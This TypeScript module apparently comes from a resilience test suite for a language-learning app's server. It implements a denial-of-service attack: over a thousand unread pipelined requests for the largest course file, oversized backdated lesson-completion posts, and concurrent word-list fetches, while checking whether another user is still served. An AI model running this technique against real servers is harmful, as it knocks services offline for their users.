import { randomUUID } from 'node:crypto';
import { once } from 'node:events';
import { connect, type Socket } from 'node:net';
import { client } from '../hajde.ts';
import { completeOnce, type Learner } from './load.ts';

const PIPELINE = 1_100;
const SOCKETS = 1_010;
const LATE_LESSONS = 200;
const LISTS = 20;
const DAY_MS = 86_400_000;

/**
 * The two cheapest ways of the second attack to stop a server: answers that nobody reads, of the
 * largest files there are, and lists of words after lessons with answers as long as they may be.
 */
export async function greedyAttack(url: string, by: Learner, other: Learner) {
  const pack = await largestPack(url);
  const ask = `GET ${pack} HTTP/1.1\r\nHost: x\r\n\r\n`;
  const sockets = [
    await readNothingOf(url, ask.repeat(PIPELINE)),
    ...(await Promise.all(Array.from({ length: SOCKETS }, () => readNothingOf(url, ask)))),
  ];
  const forOthers: (number | string)[] = [];
  const othersAsk = async () => {
    const headers = { authorization: `Bearer ${other.token}` };
    forOthers.push((await fetch(url)).status);
    forOthers.push((await fetch(`${url}/api/users/${other.id}`, { headers })).status);
    forOthers.push((await completeOnce(url, other)).status);
  };
  const forAttacker = new Set<number>();
  await othersAsk();
  for (let i = 0; i < LATE_LESSONS; i += 1) {
    forAttacker.add(await longAnswers(url, by, i));
    if (i % 50 === 0) await othersAsk();
  }
  for (const _ of [1, 2]) {
    const lists = Promise.all(Array.from({ length: LISTS }, () => words(url, by)));
    await othersAsk();
    for (const status of await lists) forAttacker.add(status);
  }
  for (const socket of sockets) socket.destroy();
  return { forOthers, forAttacker };
}

async function largestPack(url: string): Promise<string> {
  const response = await fetch(`${url}/course/course-manifest.json`);
  const { packs }: { packs: Record<string, { file: string; size: number }> } =
    await response.json();
  const [largest] = Object.values(packs).toSorted((a, b) => b.size - a.size);
  if (largest === undefined) throw new Error('The course has no packs.');
  return `/course/${largest.file}`;
}

async function readNothingOf(url: string, asked: string): Promise<Socket> {
  const { hostname, port } = new URL(url);
  const socket = connect(Number(port), hostname);
  // The server cuts them off.
  socket.on('error', () => {});
  await once(socket, 'connect');
  socket.write(asked);
  return socket;
}

async function longAnswers(url: string, { id, token }: Learner, number: number): Promise<number> {
  const completedAt = new Date(Date.now() - (1 + (number % 13)) * DAY_MS).toISOString();
  const { status } = await client(url, { authorization: `Bearer ${token}` }).call(
    'POST /api/lessons/complete',
    {
      body: {
        userId: id,
        lessonId: 'basics-hello',
        unitId: 'basics',
        perfect: true,
        xpEarned: 0,
        gemsEarned: 0,
        completionId: randomUUID(),
        completedAt,
        answers: Array.from({ length: 50 }, (_, i) => String(i).padEnd(300, 'x')),
      },
    },
  );
  return status;
}

async function words(url: string, { id, token }: Learner): Promise<number> {
  const headers = { authorization: `Bearer ${token}` };
  return (await fetch(`${url}/api/users/${id}/words`, { headers })).status;
}
